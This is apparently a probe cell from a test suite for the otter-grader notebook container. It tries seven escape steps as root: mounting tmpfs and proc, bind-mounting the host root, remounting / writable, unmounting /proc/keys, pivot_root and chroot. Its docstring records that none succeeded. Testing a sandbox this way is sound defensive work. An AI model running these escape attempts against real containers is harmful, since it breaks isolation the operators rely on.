"""Mounts, unmounts and changes its root, to see the host's files or to write where it may not.

naive: 2/2 and more, otter-grader's container runs notebooks as root, who may mount where the engine lets him.
uses: attempt
reached: 7 attempts, through: []
"""

# %%
attempt("tmpfs", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
attempt("proc", lambda: libc.mount(b"proc", b"/tmp", b"proc", 0, None))
attempt("bind", lambda: libc.mount(b"/", b"/tmp", None, 4096, None))
attempt("writable", lambda: libc.mount(None, b"/", None, 32 | 4096, None))
attempt("umount", lambda: libc.umount2(b"/proc/keys", 2))
attempt("pivot", lambda: syscall(155, 41, b"/tmp", b"/tmp"))
attempt("chroot", lambda: libc.chroot(b"/tmp"))
print(f"{len(tried)} attempts, through: {through}")
